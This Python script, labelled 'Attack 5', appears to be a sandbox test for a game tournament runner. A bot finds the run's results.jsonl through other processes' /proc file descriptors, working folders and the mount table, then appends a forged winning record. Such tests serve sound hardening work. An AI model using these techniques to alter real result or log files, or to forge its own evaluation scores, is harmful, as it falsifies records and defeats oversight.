#!/usr/bin/env python3
"""Attack 5: append a forged game record to the run's results.jsonl.

Where it looks for the file: the files its parent (the table: the runner keeps
results.jsonl open) and, inside a sandbox, every process it can see hold open, the command
lines and working folders of those processes, its own mount table, its working folder
(``out/results.jsonl``) and ``--hint`` folders.  It appends through the path and through
/proc/<pid>/fd/<n>, and creates the file in ``out`` and the hinted folder if it is missing.
It also lists its own open files: a leaked descriptor of the results file would be the
easiest way in."""

import json
import os
import secrets

from cheatlib import cmdline, flag, others, play, report, why

NAME = "results.jsonl"


def forged_line() -> bytes:
    record = {"format": "trickcore-game/1", "status": "played", "job": "FORGED-" + secrets.token_hex(4),
              "bots": ["forger", "forger"], "scores": [99, 0], "ranks": [1, 2], "faults": []}
    return (json.dumps(record) + "\n").encode()


def attack(n: int) -> None:
    if n != 1:
        return
    paths: set[str] = set()
    fds: list[str] = []
    for pid in others(flag("only")):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    target = os.readlink(f"/proc/{pid}/fd/{fd}")
                except OSError:
                    continue
                if target.endswith(NAME):
                    paths.add(target)
                    fds.append(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
        for word in cmdline(pid):
            if word.startswith("/"):
                paths.update((os.path.join(word, NAME), os.path.join(word, "out", NAME)))
        try:
            paths.add(os.path.join(os.readlink(f"/proc/{pid}/cwd"), NAME))
        except OSError:
            pass
    try:
        with open("/proc/self/mountinfo") as fh:
            paths.update(os.path.join(line.split()[4], NAME) for line in fh)
    except OSError:
        pass
    paths.update((os.path.join(os.getcwd(), "out", NAME), os.path.join(os.getcwd(), NAME)))
    if flag("hint"):
        paths.add(os.path.join(flag("hint"), NAME))
    # Where the run folder is known to be, the file is created if it is not there.
    create = {os.path.join(os.getcwd(), "out", NAME)} | ({os.path.join(flag("hint"), NAME)} if flag("hint") else set())
    appended, errors = [], {}
    for target in sorted(paths) + fds:
        if not (target in fds or target in create or os.path.exists(target)):
            continue
        try:
            fd = os.open(target, os.O_WRONLY | os.O_APPEND | (os.O_CREAT if target in create else 0), 0o644)
            try:
                os.write(fd, forged_line())
            finally:
                os.close(fd)
            appended.append(target)
        except OSError as exc:
            errors[target] = why(exc)
    own = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            own[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    report("forge", appended=appended, errors=errors, own_fds=own)


play("forger", on_request=attack)
